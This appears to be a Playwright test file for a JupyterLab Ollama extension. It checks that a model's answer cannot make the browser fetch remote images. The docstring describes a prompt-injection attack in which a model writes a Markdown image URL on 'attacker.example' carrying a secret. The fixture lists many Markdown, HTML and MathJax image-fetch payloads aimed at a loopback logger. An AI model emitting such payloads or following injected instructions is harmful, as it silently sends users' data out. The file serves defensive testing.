"""An answer fetches nothing when shown: proved from the log of a server the images point to.

A prompt injection can make a model write ``![](https://attacker.example/c?d=SECRET)``.
Rendered as ``<img>``, the browser would request it as soon as the cell is shown, and
again each time the notebook is opened: data sent out without a click.  Here the
"attacker" is a loopback HTTP server that logs every request.  The answer (and its
thinking) carry every way Markdown has to name an image; the control is a real ``<img>``
in ordinary trusted Python output, which the same page *does* fetch, so an empty log
means the answer fetched nothing, not that the check could not see it.

JupyterLab typesets ``$...$`` in HTML outputs with MathJax, whose ``\\style`` macro
takes CSS (a ``url()`` would fetch): that is in the answer too.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from .jupyterlab_page import (
    cell,
    open_notebook,
    output,
    run_all_cells,
    save,
    wait_all_executed,
    wait_footer,
    write_notebook,
)
from .test_jupyterlab import LOAD, shot

pytest.importorskip("playwright.sync_api", reason="the browser tests need `pip install playwright`")

# A 1x1 PNG: the control gets a real picture back.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc0000003010100"
    "c9fe92ef0000000049454e44ae426082"
)


class Collector:
    """A loopback HTTP server that answers every GET with a pixel and logs the path."""

    def __init__(self) -> None:
        self.log: list[str] = []
        log = self.log

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                log.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def collector() -> Iterator[Collector]:
    server = Collector()
    try:
        yield server
    finally:
        server.close()


def answer_pieces(base: str) -> tuple[list[str], list[str]]:
    """The answer and the thinking: every Markdown way of naming an image on ``base``."""
    port_less = base.removeprefix("http:")
    thinking = [f"I will hide it: ![t]({base}/thinking?d=SECRET)\n\n"]
    answer = [
        "Here is your summary.\n\n",
        f"![]({base}/inline?d=SECRET) and ![alt text]({base}/",  # an image split across two chunks
        "split?d=SECRET)\n\n",
        f"![proto]({port_less}/protocol-relative?d=SECRET)\n\n",
        "![ref][r] and ![collapsed][]\n\n",
        f"[![badge]({base}/badge.svg)]({base}/clicked-badge)\n\n",
        f"- a list item ![li]({base}/list-item.png)\n\n",
        f"| a | b |\n|---|---|\n| ![cell]({base}/table-cell.png) | x |\n\n",
        f'<img src="{base}/raw-html.png"> <iframe src="{base}/iframe"></iframe>\n\n',
        f"A link that needs a click: [docs]({base}/link) and <{base}/autolink>.\n\n",
        f"Math: $\\style{{background-image: url('{base}/mathjax-style')}}{{x}}$ and "
        f"$$\\class{{a}}{{y}} \\href{{{base}/mathjax-href}}{{z}}$$\n\n",
        f"[r]: {base}/reference?d=SECRET\n[collapsed]: {base}/collapsed?d=SECRET\n",
    ]
    return answer, thinking


@pytest.fixture
def leaky_ollama(fake_ollama: Any, collector: Collector) -> str:
    """A fake Ollama whose answer tries every way to make the browser fetch from the collector."""
    from werkzeug.wrappers import Response

    answer, thinking = answer_pieces(collector.url)

    def respond(request: Any) -> Response:
        body = json.loads(request.data or b"{}")
        model = body.get("model")

        def lines() -> Iterator[bytes]:
            pieces = [{"thinking": t, "response": ""} for t in thinking] + [{"response": a} for a in answer]
            for piece in pieces:
                time.sleep(0.1)  # several live updates while it streams
                obj = {"model": model, "created_at": "2026-11-26T12:00:00Z", **piece, "done": False}
                yield (json.dumps(obj) + "\n").encode()
            done = {
                "model": model,
                "created_at": "2026-11-26T12:00:01Z",
                "response": "",
                "done": True,
                "done_reason": "stop",
                "context": [1, 2, 3],
                "total_duration": 900_000_000,
                "load_duration": 10_000_000,
                "prompt_eval_count": 5,
                "prompt_eval_duration": 20_000_000,
                "eval_count": len(answer),
                "eval_duration": 750_000_000,
            }
            yield (json.dumps(done) + "\n").encode()

        return Response(lines(), mimetype="application/x-ndjson")

    fake_ollama.expect_request("/api/generate", method="POST").respond_with_handler(respond)
    return f"127.0.0.1:{fake_ollama.port}"


def settle(page: Any, seconds: float = 2.0) -> None:
    """Give the browser time to issue any request the page would make (it had the control's long since)."""
    page.wait_for_timeout(int(seconds * 1000))


def test_an_answer_with_remote_images_fetches_nothing(
    page: Any, lab: Any, leaky_ollama: str, collector: Collector
) -> None:
    control = f"from IPython.display import HTML\nHTML('<img src=\"{collector.url}/control.png\">')"
    path = write_notebook(
        lab.root / "leaky.ipynb", LOAD, control, f"%%generate -m evil --host {leaky_ollama} --no-context\nSummarise"
    )
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url) if r.url.startswith(collector.url) else None)
    open_notebook(page, lab.notebook_url("leaky.ipynb"))
    run_all_cells(page)
    wait_footer(page, 2)
    wait_all_executed(page)

    # The control: the same page fetches a real <img> from ordinary trusted output.
    deadline = time.monotonic() + 20
    while "/control.png" not in collector.log and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert "/control.png" in collector.log, "the control image was never requested: the check would see nothing"
    settle(page)
    assert collector.log == ["/control.png"], f"the answer made the browser fetch: {collector.log}"

    answer = output(page, 2)
    text = answer.inner_text()
    placeholders = answer.locator("a.ollama-magic-image, span.ollama-magic-image")
    assert placeholders.count() == 9  # the thinking's image is in the closed "Thinking" section
    assert "[image not loaded: alt text]" in text and "[image not loaded: ref]" in text
    assert answer.locator("img, iframe").count() == 0
    hrefs = answer.locator("a.ollama-magic-image").evaluate_all("(links) => links.map(a => a.href)")
    assert f"{collector.url}/inline?d=SECRET" in hrefs  # a person can still open the image on purpose
    shot(page, "f-remote-images", cell(page, 2))

    # Opened again (the saved output is rendered anew): still nothing fetched but the control.
    save(page)
    collector.log.clear()
    page.reload()
    output(page, 2).wait_for(state="visible", timeout=60_000)
    wait_footer(page, 2, timeout_ms=30_000)
    deadline = time.monotonic() + 20
    while "/control.png" not in collector.log and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    settle(page)
    assert collector.log == ["/control.png"], f"the reopened notebook fetched: {collector.log}"
    assert [u for u in requested if "/control.png" not in u] == []
    assert path.exists()
